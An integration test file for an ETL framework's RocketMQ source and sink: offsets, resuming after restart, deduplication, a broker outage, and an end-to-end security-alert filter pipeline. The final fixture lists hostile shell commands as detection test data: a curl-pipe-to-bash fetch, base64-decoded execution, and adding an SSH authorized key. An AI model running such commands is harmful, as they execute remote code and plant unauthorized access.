"""RocketMQ source and sink against a real name server + broker (tests/servers, fixture rocketmq_server).

* the native-client wrapper (etl/connectors/rocketmq_client.py): binary bodies, keys, tags,
  properties, bounds, pulls by offset, tag filters, two name servers in one process;
* the source through Spark (AvailableNow): exactly the topic's content over every queue, bad JSON
  in dead letters, restart resumes with nothing doubled, max_messages_per_trigger splits batches,
  text/raw formats and tag filters, a wrong namesrv named in the error;
* the sink: every row once with its key/tag/dedup id, replays (committed, or crashed mid-batch)
  not doubled, a wrong namesrv named in the error;
* the broker stopped for 20 s in the middle of a continuous RocketMQ -> RocketMQ run: retries,
  then nothing lost and nothing doubled;
* pipelines/rocketmq_filter_rocketmq.yaml end to end (RocketMQ -> rule filter -> RocketMQ).

Run: .venv/bin/python -m pytest -m servers tests/integration/test_rocketmq.py
"""

from __future__ import annotations

import json
import logging
import re
import sys
import textwrap
import threading
import time
import uuid
from collections import Counter
from pathlib import Path

import pytest

REPO = Path(__file__).resolve().parents[2]
if str(REPO) not in sys.path:
    sys.path.insert(0, str(REPO))

from etl.connectors import rocketmq_client as rmq  # noqa: E402
from tests.servers.examples import produce_rocketmq, visible_rocketmq, wait_visible_rocketmq  # noqa: E402

pytestmark = [pytest.mark.servers, pytest.mark.spark, pytest.mark.timeout(600)]


def _topic(prefix: str = "t") -> str:
    return f"{prefix}_{uuid.uuid4().hex[:10]}"


def read_topic(namesrv: str, topic: str, expr: str = "*") -> list[rmq.Message]:
    """Every message of `topic` (all queues, min to max offset) through the wrapper."""
    from etl.components.sources.rocketmq.build import pull_range

    c = rmq.shared_consumer(namesrv, "etl-test-reader", ("etl_msg_id",))
    out: list[rmq.Message] = []
    for q in rmq.topic_queues(namesrv, topic) or []:
        lo, hi = c.bounds(topic, q)
        out.extend(pull_range(c, topic, q, lo, hi, expr))
    return out


def plan(tmp: Path, text: str, name: str = "p.yaml", environ: dict | None = None):
    from etl.check import check_file

    tmp.mkdir(parents=True, exist_ok=True)
    (tmp / name).write_text(textwrap.dedent(text))
    c = check_file(tmp / name, programs=True, environ=environ)
    assert c.plan is not None, "\n".join(d.render() for d in c.report.sorted())
    return c.plan


def run_once(spark, p, checkpoint: Path, rows: list | None = None):
    """One AvailableNow run; with `rows`, every sink (and dead letters) is captured into it."""
    from etl.runtime.runner import PipelineRun, RunOptions
    from etl.runtime.testing import CaptureSink

    factory = None if rows is None else (lambda o, s, ctx: CaptureSink(s, ctx, rows))
    r = PipelineRun(p, spark, RunOptions(once=True, checkpoint=str(checkpoint), progress="none",
                                         sink_factory=factory))
    r.start()
    r.wait()
    return r


# ------------------------------------------------------------------ the client wrapper
def test_client_bodies_keys_tags_properties_and_offsets(rocketmq_server):
    ns = rocketmq_server.namesrv_addr
    topic = _topic("client")
    assert rmq.topic_queues(ns, topic) is None  # not created yet
    bodies = [b"a\x00b", bytes(range(256)), b"z" * 5000, "ünïcode ✓".encode(), b"x" * 100_000, b"{}"]
    p = rmq.shared_producer(ns, "etl-test-producer")
    for i, b in enumerate(bodies):
        p.send(topic, b, keys=f"k{i}", tags="even" if i % 2 == 0 else "odd", properties={"etl_msg_id": f"id-{i}"})
    with pytest.raises(rmq.Rejected, match="empty body"):
        p.send(topic, b"")
    queues = rmq.topic_queues(ns, topic)
    assert len(queues) == 4 and queues == sorted(queues)
    fallbacks = rmq.BODY_FALLBACKS
    got = read_topic(ns, topic)
    assert sorted(m.body for m in got) == sorted(bodies)  # binary-safe (NUL bytes), compressed bodies
    assert fallbacks == rmq.BODY_FALLBACKS
    by_key = {m.keys: m for m in got}
    for i, b in enumerate(bodies):
        m = by_key[f"k{i}"]
        assert m.body == b and m.tags == ("even" if i % 2 == 0 else "odd")
        assert m.properties == {"etl_msg_id": f"id-{i}"} and m.store_ms > 1_700_000_000_000
    # pulls by offset: bounds, a range in the middle, a tag filter, an offset past the end
    c = rmq.shared_consumer(ns, "etl-test-reader", ("etl_msg_id",))
    q = rmq.Queue.from_key(got[0].queue.key)
    lo, hi = c.bounds(topic, q)
    assert (lo, hi) == (0, sum(m.queue == q for m in got))
    res = c.pull(topic, q, 1, 32)
    assert res.status == rmq.PULL_FOUND and [m.offset for m in res.messages] == list(range(1, hi))
    assert sorted(m.body for m in read_topic(ns, topic, "even")) == sorted(bodies[0::2])
    assert c.pull(topic, q, hi + 5, 1).status == rmq.PULL_OFFSET_ILLEGAL
    assert c.pull(topic, q, hi, 1).status == rmq.PULL_NO_NEW_MSG


def test_client_name_servers_stay_apart_and_bad_addresses_are_named(rocketmq_server):
    """The native client shares one instance (and the first name server set) per process; the
    wrapper gives each name server its own, so a wrong address is not silently served by another."""
    ns = rocketmq_server.namesrv_addr
    topic = _topic("apart")
    produce_rocketmq(ns, topic, [b"one"])
    good = rmq.PullConsumer(ns, "etl-test-apart-good")
    bad = rmq.PullConsumer("127.0.0.1:1", "etl-test-apart-bad")
    try:
        queues = rmq.topic_queues(ns, topic) or []
        assert [q.broker for q in queues] == ["broker-a"] * 4
        assert sum(good.bounds(topic, q)[1] for q in queues) == 1
        with pytest.raises(rmq.Unavailable, match="broker broker-a .* not reachable"):
            bad.bounds(topic, rmq.Queue("broker-a", 0))
    finally:
        bad.close()
        good.close()
    with pytest.raises(rmq.Unavailable, match=r"name server 127\.0\.0\.1:1 is not reachable: .*refused"):
        rmq.topic_queues("127.0.0.1:1", topic)
    with pytest.raises(rmq.RocketMQError, match="no route"):
        rmq.Producer("127.0.0.1:1", "etl-test-bad-producer").send(topic, b"x")
    with pytest.raises(ValueError, match="host:port"):
        rmq.parse_namesrv("localhost")


# ------------------------------------------------------------------ the source
def source_yaml(ns: str, topic: str, extra: str = "", fmt: str = "json", sink: str = "") -> str:
    schema = "schema: {id: bigint, name: string}" if fmt == "json" else ""
    return f"""
        name: rmq-src
        sources:
          - id: m
            type: rocketmq
            namesrv: "{ns}"
            topic: {topic}
            group: etl-test-source
            format: {fmt}
            {schema}
            {extra}
        sinks: [{{id: out, type: file, input: m, path: out}}]
    """


def test_source_reads_the_topic_exactly_and_resumes(spark, rocketmq_server, tmp_path):
    ns = rocketmq_server.namesrv_addr
    topic = _topic("src")
    first = [json.dumps({"id": i, "name": f"n{i}"}).encode() for i in range(300)]
    bad = [b"not json {", b"[1, 2]", b'{"id": "x"}']
    produce_rocketmq(ns, topic, first + bad)
    p = plan(tmp_path, source_yaml(ns, topic))
    rows: list[dict] = []
    r = run_once(spark, p, tmp_path / "ck", rows)
    good = [x for x in rows if "id" in x]
    dead = [x for x in rows if "reason" in x]
    assert sorted(x["id"] for x in good) == list(range(300))
    assert sorted((d["reason"], d["payload"]) for d in dead) == [
        ("json does not match the declared schema (id bigint, name string)", '{"id": "x"}'),
        ("json value is not an object", "[1, 2]"), ("malformed json", "not json {")]
    assert {m.queue.queue_id for m in read_topic(ns, topic)} == {0, 1, 2, 3}  # several queues were read
    end = r.streams[0].lastProgress["sources"][0]["endOffset"]
    assert json.loads(end)["topic"] == topic and len(json.loads(end)["queues"]) == 4

    # more messages, same checkpoint (a restart): only the new ones, nothing doubled
    more = [json.dumps({"id": i, "name": f"n{i}"}).encode() for i in range(300, 420)]
    produce_rocketmq(ns, topic, more)
    rows.clear()
    run_once(spark, p, tmp_path / "ck", rows)
    assert sorted(x["id"] for x in rows) == list(range(300, 420))
    # (starting: latest is covered by test_rocketmq_offsets.py: initialOffset takes the queue ends)


def test_source_max_messages_per_trigger_splits_batches(spark, rocketmq_server, tmp_path):
    ns = rocketmq_server.namesrv_addr
    topic = _topic("limit")
    produce_rocketmq(ns, topic, [json.dumps({"id": i, "name": "x"}).encode() for i in range(250)])
    p = plan(tmp_path, source_yaml(ns, topic, "max_messages_per_trigger: 100"))
    rows: list[dict] = []
    r = run_once(spark, p, tmp_path / "ck", rows)
    assert sorted(x["id"] for x in rows) == list(range(250))
    assert [pr["numInputRows"] for pr in r.streams[0].recentProgress] == [100, 100, 50]


def test_source_text_raw_and_tag_filter(spark, rocketmq_server, tmp_path):
    ns = rocketmq_server.namesrv_addr
    topic = _topic("text")
    bodies = [f"line {i}".encode() for i in range(40)] + [b"bin\x00\xff"]
    tags = ["A" if i % 3 == 0 else "B" for i in range(41)]
    produce_rocketmq(ns, topic, bodies, tags=tags)
    rows: list[dict] = []
    run_once(spark, plan(tmp_path / "t", source_yaml(ns, topic, "tags: A", fmt="text")), tmp_path / "ck1", rows)
    want = sorted(b.decode("utf-8", "replace") for b, t in zip(bodies, tags, strict=True) if t == "A")
    assert sorted(x["value"] for x in rows) == want
    assert {x["tags"] for x in rows} == {"A"} and {x["topic"] for x in rows} == {topic}
    assert all(x["key"].startswith("k") and x["timestamp"] is not None for x in rows)
    rows.clear()
    run_once(spark, plan(tmp_path / "r", source_yaml(ns, topic, "value_column: payload", fmt="raw")),
             tmp_path / "ck2", rows)
    assert sorted(x["payload"] for x in rows) == sorted(bodies)  # bytes, NUL and 0xff kept


def test_source_wrong_namesrv_names_component_and_line(spark, rocketmq_server, tmp_path):
    from etl.compile.context import CompileError

    p = plan(tmp_path, source_yaml("127.0.0.1:1", "whatever"))
    with pytest.raises(CompileError) as err:
        run_once(spark, p, tmp_path / "ck")
    msg = str(err.value)
    assert "p.yaml:4:" in msg and "E407 rocketmq source 'm'" in msg, msg
    assert "name server 127.0.0.1:1 is not reachable" in msg and "refused" in msg, msg


# ------------------------------------------------------------------ the sink
def sink_yaml(ns: str, topic: str, count: int, retry: str = "") -> str:
    return f"""
        name: rmq-sink
        sources:
          - id: g
            type: generator
            count: {count}
            rows_per_batch: 100
            fields: {{id: {{sequence: 0}}, host: {{choice: [web1, web2, db1]}}, n: {{int_range: [1, 9]}}}}
        sinks:
          - id: out
            type: rocketmq
            input: g
            namesrv: "{ns}"
            topic: {topic}
            tag: gen
            key: "concat(host, '-', cast(id AS string))"
            batch_size: 64
            {retry}
    """


def test_sink_writes_every_row_once_with_key_tag_and_dedup_id(spark, rocketmq_server, tmp_path):
    ns = rocketmq_server.namesrv_addr
    topic = _topic("sink")
    p = plan(tmp_path, sink_yaml(ns, topic, 250))
    run_once(spark, p, tmp_path / "ck")
    wait_visible_rocketmq(ns, topic, 250)
    msgs = read_topic(ns, topic)
    rows = [json.loads(m.body) for m in msgs]
    assert sorted(r["id"] for r in rows) == list(range(250))
    assert all(m.keys == f"{r['host']}-{r['id']}" and m.tags == "gen" for m, r in zip(msgs, rows, strict=True))
    ids = [m.properties["etl_msg_id"] for m in msgs]
    # written from the executors: the scope is the query's and the partition's (etl.runtime.partitions)
    assert len(set(ids)) == 250 and all(re.match(r"rmq-sink:out:g\.p\d+:", i) for i in ids), ids[:3]
    assert {int(i.split(":")[4]) for i in ids} == {0, 1, 2}  # batch ids 0..2 (100 rows per batch)
    run_once(spark, p, tmp_path / "ck")  # nothing new: nothing sent
    assert len(read_topic(ns, topic)) == 250


def _sink(spec_over: dict, tmp: Path, ns: str, topic: str):
    from etl.components.sinks.rocketmq.build import RocketMQSink
    from etl.runtime.sink import SinkContext
    from etl.components.sinks.rocketmq.spec import RocketMQSink as Spec

    spec = Spec.model_validate({"id": "out", "type": "rocketmq", "inputs": ["x"], "namesrv": ns, "topic": topic,
                                "key": "cast(id AS string)", **spec_over})
    (tmp / "ck" / "q").mkdir(parents=True, exist_ok=True)
    ctx = SinkContext("replay", "out", "q", str(tmp / "ck"), str(tmp), checkpoint=str(tmp / "ck" / "q"),
                      sleep=lambda s: None)
    ctx.executors = False  # the sink's own write path, on the driver (tests/contract replays partitions)
    return RocketMQSink(spec, ctx)


def test_sink_replays_are_not_doubled(spark, rocketmq_server, tmp_path):
    ns = rocketmq_server.namesrv_addr
    topic = _topic("replay")
    b0 = spark.createDataFrame([(i, f"n{i}") for i in range(50)], "id bigint, name string")
    b1 = spark.createDataFrame([(i, f"n{i}") for i in range(50, 100)] + [(100, "same"), (100, "same")],
                               "id bigint, name string")
    first = _sink({}, tmp_path, ns, topic)
    assert first.write_batch(b0, 0).rows == 50
    assert _sink({}, tmp_path, ns, topic).write_batch(b0, 0).skipped  # committed: skipped
    # a crash in the middle of batch 1: 20 rows sent, never committed; then the replay in full
    crashed = _sink({}, tmp_path, ns, topic)
    shaped = crashed.prepare(b1).toArrow()
    crashed.begin(1, shaped.schema)
    crashed.batch_insert(shaped.slice(0, 20))
    replay = _sink({}, tmp_path, ns, topic)
    assert replay.write_batch(b1, 1).rows == 52
    assert replay.skipped == 20 and replay.sent == 32
    wait_visible_rocketmq(ns, topic, 102)
    got = Counter((json.loads(m.body)["id"], m.properties["etl_msg_id"]) for m in read_topic(ns, topic))
    assert sorted(i for i, _ in got.elements()) == list(range(100)) + [100, 100]  # identical rows kept twice
    assert max(got.values()) == 1  # ... with distinct ids (#2)
    assert not list((tmp_path / "ck" / "sinks").rglob("*.begin"))  # begin markers gone once committed


def test_sink_wrong_namesrv_names_component_and_line(spark, rocketmq_server, tmp_path):
    from etl.runtime.runner import RunFailed

    p = plan(tmp_path, sink_yaml("127.0.0.1:1", _topic("bad"), 10,
                                 retry="retry: {max_attempts: 2, initial_backoff: 100ms}"))
    started = time.monotonic()
    with pytest.raises(RunFailed) as err:
        run_once(spark, p, tmp_path / "ck")
    msg = str(err.value)
    assert "rocketmq sink 'out' (" in msg and "p.yaml:10:" in msg, msg
    assert "after 2 attempts" in msg and "name server 127.0.0.1:1 is not reachable" in msg, msg
    assert time.monotonic() - started < 60


# ------------------------------------------------------------------ an outage
def test_broker_outage_mid_run_loses_and_doubles_nothing(spark, rocketmq_server, tmp_path, caplog):
    """The server (name server + broker) stops for 12 s in the middle of a continuous run of two
    queries: RocketMQ -> RocketMQ while messages keep coming (the source waits), and files ->
    RocketMQ with files arriving while the server is down (the sink retries). Afterwards both
    output topics hold every input exactly once."""
    from etl.runtime.runner import PipelineRun, RunOptions

    caplog.set_level(logging.WARNING, logger="etl.sink")
    ns = rocketmq_server.namesrv_addr
    src, dst, file_dst = _topic("in"), _topic("out"), _topic("gen")
    folder = tmp_path / "files"
    folder.mkdir()
    files = 0

    def write_file() -> None:  # 20 rows per file, ids files*20 ..
        nonlocal files
        tmp = folder / f".f{files}.tmp"
        tmp.write_text("".join(json.dumps({"id": files * 20 + i}) + "\n" for i in range(20)))
        tmp.rename(folder / f"f{files:03d}.jsonl")
        files += 1

    write_file()
    produce_rocketmq(ns, src, [json.dumps({"id": i, "name": "before"}).encode() for i in range(50)])
    retry = "{max_attempts: 60, initial_backoff: 200ms, max_backoff: 2s}"
    p = plan(tmp_path, f"""
        name: rmq-outage
        sources:
          - {{id: m, type: rocketmq, namesrv: "{ns}", topic: {src}, group: etl-test-outage,
              schema: {{id: bigint, name: string}}, max_messages_per_trigger: 40}}
          - {{id: f, type: file, path: "{folder}", format: jsonl, schema: {{id: bigint}}, max_files_per_trigger: 1}}
        sinks:
          - {{id: out, type: rocketmq, input: m, namesrv: "{ns}", topic: {dst}, key: "cast(id AS string)",
              retry: {retry}}}
          - {{id: file_out, type: rocketmq, input: f, namesrv: "{ns}", topic: {file_dst}, retry: {retry}}}
        trigger: {{mode: interval, interval: 500ms}}
    """)
    run = PipelineRun(p, spark, RunOptions(checkpoint=str(tmp_path / "ck"), progress="none"))
    run.start()
    sent = 50
    errors: list[str] = []
    resent: set[int] = set()
    stop = threading.Event()

    def keep_producing():
        nonlocal sent
        while not stop.is_set() and sent < 400:
            try:
                produce_rocketmq(ns, src, [json.dumps({"id": sent, "name": "during"}).encode()], wait=False)
                sent += 1
            except rmq.RocketMQError as e:  # the server is down: try again
                errors.append(str(e))
                resent.add(sent)  # the broker may have stored it all the same (a timeout while it stopped)
                time.sleep(0.5)
            time.sleep(0.05)

    def ids(topic: str) -> list[int]:
        try:
            return [json.loads(m.body)["id"] for m in read_topic(ns, topic)]
        except rmq.RocketMQError:
            return []

    def wait_for(pred, timeout, what, every=0.5):
        deadline = time.monotonic() + timeout
        while time.monotonic() < deadline:
            assert not run.failure, run.failure
            for s in run.streams:
                assert s.isActive or s.exception() is None, str(s.exception())[:2000]
            if pred():
                return
            time.sleep(every)
        raise AssertionError(f"timed out waiting for {what}")

    idle_polls = 0

    def idle() -> bool:
        """No query runs a batch or has data waiting, at two polls in a row: every row read has been written."""
        nonlocal idle_polls
        quiet = all(not s.status["isTriggerActive"] and not s.status["isDataAvailable"] for s in run.streams)
        idle_polls = idle_polls + 1 if quiet else 0
        return idle_polls >= 2

    producer = threading.Thread(target=keep_producing, daemon=True)
    try:
        wait_for(lambda: len(ids(dst)) >= 50 and ids(file_dst), 120, "the first messages")
        producer.start()
        outage = rocketmq_server.outage(12)
        outage.wait_stopped()
        down_at = time.monotonic()
        for _ in range(5):  # files arriving while the server is down
            write_file()
            time.sleep(2)
        outage.join(180)
        assert time.monotonic() - down_at >= 12
        write_file()
        after = sent  # messages keep coming after the restart, and the source reads them
        wait_for(lambda: sent >= min(after + 20, 400), 60, "20 messages produced after the outage", every=0.1)
        stop.set()
        producer.join(60)
        file_rows = files * 20
        wait_for(lambda: len(ids(dst)) >= sent and len(ids(file_dst)) >= file_rows, 180,
                 f"all {sent} + {file_rows} messages after the outage")
        wait_for(idle, 60, "both queries idle", every=0.3)  # anything doubled would show up by then
    finally:
        stop.set()
        run.request_stop()
        run.wait()
        rocketmq_server.ensure_running()
    # the input topic itself may hold a message twice: the test's producer sent it again after an error while
    # the server stopped, which the broker had stored (only such a message); the output holds each input once
    given = Counter(ids(src))
    assert {k for k, c in given.items() if c > 1} <= resent, given
    for topic, n, want in ((dst, sent, given), (file_dst, file_rows, Counter(range(file_rows)))):
        got = Counter(ids(topic))
        assert sorted(got) == list(range(n)), f"{topic}: missing {sorted(set(range(n)) - set(got))[:10]}"
        assert got == want, f"{topic}: doubled {[k for k, c in got.items() if c > want[k]][:10]}"
    retried = [r.getMessage() for r in caplog.records if "retrying in" in r.getMessage()]
    assert retried, "the sink never had to retry: the outage was not noticed"
    print(f"\n[rocketmq outage] {sent} + {file_rows} messages; producer errors while down: {len(errors)}; "
          f"sink retries: {len(retried)}; first: {retried[0][:200]}")


# ------------------------------------------------------------------ the example pipeline
COMMANDS = [  # (user, cmd, src_ip, rules expected to match)
    ("alice", "history -c", "10.0.0.5", {"history-wipe"}),
    ("bob", "ls -la /tmp", "10.0.0.6", set()),
    ("carol", "curl -s http://x.example/i.sh | bash", "10.1.2.3", {"curl-pipe-shell"}),
    ("ci", "curl -s http://x.example/i.sh | bash", "10.1.2.3", set()),
    ("dave", "echo ZWNobyBoaQ== | base64 -d | sh", "10.0.0.9", {"base64-decode-exec"}),
    ("erin", "crontab -e", "192.168.1.4", {"crontab-edit"}),
    ("root", "crontab -e", "192.168.1.4", set()),
    ("frank", "echo key >> ~/.ssh/authorized_keys", "10.0.0.2", {"ssh-authorized-keys"}),
    ("gina", "ssh admin@db1", "8.8.8.8", {"outside-network-login"}),
    ("hank", "ssh admin@db1", "10.2.3.4", set()),
    ("ivy", "cat /etc/hosts", "10.0.0.7", set()),
]


def test_example_rocketmq_filter_rocketmq_end_to_end(spark, rocketmq_server, tmp_path):
    from etl.check import check_file
    from etl.runtime.runner import PipelineRun, RunOptions

    ns = rocketmq_server.namesrv_addr
    before = {m.properties.get("etl_msg_id") for m in read_topic(ns, "security-alerts")}
    count = visible_rocketmq(ns, "security-alerts")
    events = []
    for n in range(3):
        for i, (user, cmd, ip, _) in enumerate(COMMANDS):
            events.append({"ts": f"2026-03-01T12:{n:02d}:{i:02d}Z", "host": f"h{n}-{i}", "user": user, "cmd": cmd,
                           "parent": "bash", "src_ip": ip})
    want = {e["host"]: (e["host"], "audit", rules) for e, (_, _, _, rules) in
            zip(events, [c for _ in range(3) for c in COMMANDS], strict=True) if rules}
    produce_rocketmq(ns, "host-commands", [json.dumps(e).encode() for e in events] + [b"garbage"])
    checked = check_file(REPO / "pipelines" / "rocketmq_filter_rocketmq.yaml", environ={"ROCKETMQ_NAMESRV": ns},
                         programs=True)
    assert checked.plan is not None, "\n".join(d.render() for d in checked.report.sorted())
    run = PipelineRun(checked.plan, spark, RunOptions(once=True, checkpoint=str(tmp_path / "ck"), progress="none"))
    run.start()
    run.wait()
    wait_visible_rocketmq(ns, "security-alerts", count + len(want))
    alerts = [m for m in read_topic(ns, "security-alerts") if m.properties.get("etl_msg_id") not in before]
    got = {json.loads(m.body)["host"]: (m.keys, m.tags, set(json.loads(m.body)["matched_rules"])) for m in alerts}
    assert len(alerts) == len(want) and got == want
    dead = [json.loads(line) for f in (tmp_path / "dead_letters").glob("part-*.jsonl")
            for line in f.read_text().splitlines()]
    assert [(d["stage"], d["payload"]) for d in dead] == [("events", "garbage")]
